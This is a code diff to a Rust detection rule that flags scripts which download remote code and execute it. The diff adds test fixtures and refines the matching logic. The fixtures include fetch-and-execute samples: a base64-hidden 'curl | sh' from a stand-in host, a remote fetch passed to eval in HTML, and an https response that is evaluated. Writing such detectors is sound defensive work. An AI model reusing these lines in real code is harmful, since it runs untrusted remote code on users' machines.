@@ -45,11 +45,27 @@ pub static RULE: Rule = Rule {
             "const { exec } = require('child_process');\nexec(Buffer.from('Y3VybCBodHRwczovL2dldC5leGFtcGxlLmNvbS9pLnNoIHwgc2g=', 'base64').toString());\n",
         ),
         Sample::File(
+            "assets/a.html",
+            "<script>\nfetch('https://a.example.com/x').then((r) => r.text()).then(eval);\n</script>\n",
+        ),
+        Sample::File(
             "scripts/a.js",
             "require('https').get(u, (res) => { let b = ''; res.on('data', (d) => { b += d; }); res.on('end', () => eval(b)); });\n",
         ),
     ],
     misses: &[
+        Sample::File(
+            "assets/a.html",
+            "<script type=\"module\">\nconst m = await import('https://cdn.example.com/lib@1.0.0/lib.mjs');\nm.draw();\n</script>\n",
+        ),
+        Sample::File(
+            "scripts/a.mjs",
+            "import { execSync } from 'node:child_process';\nconst v = await (await fetch('https://r.example.com/v')).text();\nexecSync(`npm install demo@${v}`);\n",
+        ),
+        Sample::File(
+            "scripts/a.mjs",
+            "const page = await (await fetch('http://localhost:8080/')).text();\nnew Function(page)();\n",
+        ),
         Sample::File(
             "scripts/a.js",
             "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://api.example.com/x | jq .');\n",
@@ -86,15 +102,19 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
     if !super::is_script(unit) {
         return;
     }
+    let mut last = None;
     for operation in &unit.lowered.operations {
         let found = match &operation.act {
             Act::Evaluate { code } => code.origins.has(Origins::NETWORK),
             Act::Execute {
+                program,
                 command,
                 shell: ShellUse::Yes | ShellUse::Unproven,
                 ..
             } => {
-                command.origins.has(Origins::NETWORK)
+                // As an argument of a program that is written down it is no
+                // program of its own.
+                (command.origins.has(Origins::NETWORK) && program.is_none())
                     || runs_download(command)
                     || (operation.span.len() <= MAX_CALL
                         && command.text.is_none()
@@ -102,8 +122,13 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
             }
             _ => false,
         };
-        if found {
-            reporter.raise(operation.span);
+        if found && last != Some(operation.span) {
+            last = Some(operation.span);
+            match &operation.act {
+                Act::Evaluate { code } => reporter.raise_flow(operation.span, &code.way),
+                Act::Execute { command, .. } => reporter.raise_flow(operation.span, &command.way),
+                _ => reporter.raise(operation.span),
+            };
         }
     }
 }
